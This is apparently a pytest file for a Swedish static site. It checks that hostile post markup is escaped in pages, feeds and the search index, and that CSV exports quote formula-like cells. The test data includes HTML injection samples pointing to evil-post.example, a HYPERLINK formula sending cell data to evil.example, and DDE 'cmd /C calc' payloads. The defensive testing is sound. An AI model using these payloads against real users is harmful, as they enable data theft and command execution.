"""One site, built once, from a copy of the project with hostile input the validator lets through
(issue 21): a news post whose title and body carry markup, and record texts that a spreadsheet
would run as formulas. Nothing of it may reach a page as markup or a CSV file as a formula.

Hostile input that the validator refuses never gets this far (tests/bad_posts/, tests/bad_records/).
"""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
import yaml
from bs4 import BeautifulSoup
from site_fixtures import copy_project, mkdocs_build, read_html

POST_TITLE = 'Fisk & <b>fet</b> "citat" </title><i>kursiv</i>'
POST_DESCRIPTION = "Sammanfattning <b>med</b> & </title> tecken"
POST = f"""---
title: {json.dumps(POST_TITLE)}
date: 2016-01-02
slug: fientlig
authors: [redaktionen]
categories: [Projekt]
description: {json.dumps(POST_DESCRIPTION)}
---

Inledningsord <iframe src="https://evil-post.example/1"></iframe> <style>*{{display:none}}</style>
<form action="https://evil-post.example/2"><input name=q></form> <svg><use href="#x"/></svg>
<object data="https://evil-post.example/3"></object> [klick](data:image/svg+xml;base64,PHN2Zz4=)
**fet**{{: style="color:red" }}

<!-- more -->

Restord <iframe src="https://evil-post.example/4"></iframe> <embed src="https://evil-post.example/5">

## Ett avsnitt

Slut.
"""
POST_URL = "blog/2016/01/02/fientlig/"

# Each a text a spreadsheet would run, put where a CSV file carries it.
FORMULAS = {
    "municipality name": '=HYPERLINK("https://evil.example/?"&A1;"Klicka")',
    "county": "+SUM(1;1)",
    "project name": " -2+3+cmd|' /C calc'!A0",
    "figure label": "@SUM(1+1)*cmd|' /C calc'!A0",
    "justification": "\t=1+1",
    "after a semicolon": "Kostnad; =1+1",
    "dataset cell": "=cmd|' /C calc'!A0",
}


def _edit(path, change) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _municipality(data):
    data["name"] = FORMULAS["municipality name"]
    data["county"] = FORMULAS["county"]
    data["criteria"][0]["justification"] = FORMULAS["justification"]
    data["criteria"][1]["justification"] = FORMULAS["after a semicolon"]


def _project(data):
    data["name"] = FORMULAS["project name"]
    figure = next(f for f in data["results"]["figures"] if "target" in f)
    figure["label"] = FORMULAS["figure label"]


def _dataset(data):
    data["results"]["datasets"][0]["rows"][0][data["results"]["datasets"][0]["columns"][0]["key"]] = \
        FORMULAS["dataset cell"]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    project = copy_project(root / "project")
    (project / "docs/blog/posts/2016-fientlig.md").write_text(POST, encoding="utf-8")
    _edit(project / "content/municipalities/hudiksvall.yml", _municipality)
    _edit(project / "content/projects/arbetslivscentrum.yml", _project)
    _edit(project / "content/projects/finsam-lund.yml", _dataset)
    site = root / "site"
    result = mkdocs_build(project, site)
    assert result.returncode == 0, result.stdout + result.stderr
    return site


# --- News posts ------------------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "poster", "xlink:href"}


def test_no_page_carries_the_posts_markup(hostile_site):
    pages = 0
    for html_file in hostile_site.rglob("*.html"):
        if "admin" in html_file.relative_to(hostile_site).parts:
            continue  # the web editor's own files (Decap)
        soup = BeautifulSoup(html_file.read_text(encoding="utf-8"), "lxml")
        for tag in soup.find_all(True):
            for attr, value in tag.attrs.items():
                assert not attr.lower().startswith("on"), f"{html_file}: {attr}"
                values = value if isinstance(value, list) else [value]
                assert not any("evil" in str(v) for v in values if attr in URL_ATTRIBUTES), \
                    f"{html_file}: {tag.name} {attr}={value}"
                assert not any(str(v).strip().lower().startswith(("javascript:", "data:")) for v in values)
        article = soup.select_one("article")
        if article is not None and ("Inledningsord" in article.get_text() or "Restord" in article.get_text()):
            pages += 1
            for name in ("iframe", "form", "object", "embed", "input", "style", "use"):
                assert not article.find(name), f"{html_file}: <{name}> from the post"
    assert pages >= 3  # the post, the news list, its category and archive pages


def test_the_posts_title_is_text_wherever_it_appears(hostile_site):
    post = read_html(hostile_site, POST_URL)
    assert post.select_one("article h1").get_text().replace("¶", "").strip() == POST_TITLE
    assert post.title.get_text().startswith(POST_TITLE)
    assert post.find("meta", attrs={"name": "description"})["content"] == POST_DESCRIPTION
    news = read_html(hostile_site, "blog/")
    assert POST_TITLE in [h.get_text().replace("¶", "").strip() for h in news.select("article h2, article h1")]
    home = read_html(hostile_site, "")
    assert POST_TITLE in [a.get_text() for a in home.select("a")]
    feed = ET.parse(hostile_site / "feeds/nyheter.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    entry = next(e for e in feed.iter(f"{atom}entry") if e.findtext(f"{atom}title") == POST_TITLE)
    assert POST_DESCRIPTION in (entry.findtext(f"{atom}summary") or "")
    search = "\n".join(p.read_text(encoding="utf-8") for p in (hostile_site / "sok").rglob("*.json"))
    assert "<iframe" not in search and "evil-post.example" not in search
    assert json.dumps(POST_TITLE, ensure_ascii=False)[1:-1] in search


# --- Open data ------------------------------------------------------------------------------

def _runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would run: a cell (or a ;-separated part of one, as a Swedish
    spreadsheet splits it) starting with = + - @ after spaces, or with a tab or line break;
    a plain number such as -29000 is only a number."""
    for part in [cell, *cell.split(";")[1:]]:
        stripped = part.lstrip(" \t\r\n\x00")
        if part[:1] in ("\t", "\r", "\n") or stripped[:1] in ("=", "+", "-", "@"):
            try:
                float(stripped)
            except ValueError:
                return True
    return False


def _csv_cells(site):
    for path in sorted(site.rglob("*.csv")):
        text = path.read_text(encoding="utf-8-sig")
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                yield path.relative_to(site).as_posix(), cell


def test_no_csv_cell_in_the_site_runs_as_a_formula(hostile_site):
    cells = list(_csv_cells(hostile_site))
    files = {path for path, _ in cells}
    assert {"data/kommuner.csv", "data/projekt.csv", "data/bedomningar.csv", "data/siffror.csv",
            "data/jamforelse.csv"} <= files
    assert any(path.startswith("data/diagram/") for path in files)
    formulas = [(path, cell) for path, cell in cells if _runs_as_formula(cell)]
    assert not formulas, formulas[:10]


def test_each_hostile_value_is_kept_as_quoted_text(hostile_site):
    texts = {}
    for path, cell in _csv_cells(hostile_site):
        texts.setdefault(path, set()).add(cell)
    quoted = {name: "'" + value for name, value in FORMULAS.items()}
    assert quoted["municipality name"] in texts["data/kommuner.csv"]
    assert quoted["municipality name"] in texts["data/jamforelse.csv"]
    assert quoted["county"] in texts["data/kommuner.csv"]
    assert "'" + FORMULAS["project name"].strip() in texts["data/projekt.csv"]  # spaces trimmed, as every text
    assert quoted["figure label"] in texts["data/siffror.csv"]
    assert quoted["figure label"] in texts["data/diagram/arbetslivscentrum-utfall-personer.csv"]
    assert "'=1+1" in texts["data/bedomningar.csv"]  # the tab is white space, trimmed as in every text
    assert "Kostnad; '=1+1" in texts["data/bedomningar.csv"]
    assert any(quoted["dataset cell"] in cells for path, cells in texts.items() if "finsam-lund" in path)


def test_negative_numbers_stay_numbers(hostile_site):
    negatives = [cell for path, cell in _csv_cells(hostile_site)
                 if path.startswith("data/diagram/") and cell.startswith("-")]
    assert negatives and all(float(cell) < 0 for cell in negatives)


def test_the_data_package_and_the_open_data_page_say_how_formulas_are_written(hostile_site):
    from kunskapsbanken.render.csv_text import NOTE_EN, NOTE_SV

    package = json.loads((hostile_site / "data" / "datapackage.json").read_text(encoding="utf-8"))
    assert NOTE_SV in package["description"] and NOTE_EN in package["descriptions"]["en"]
    page = read_html(hostile_site, "oppna-data/").get_text(" ")
    assert "apostrof" in page and "formel" in page
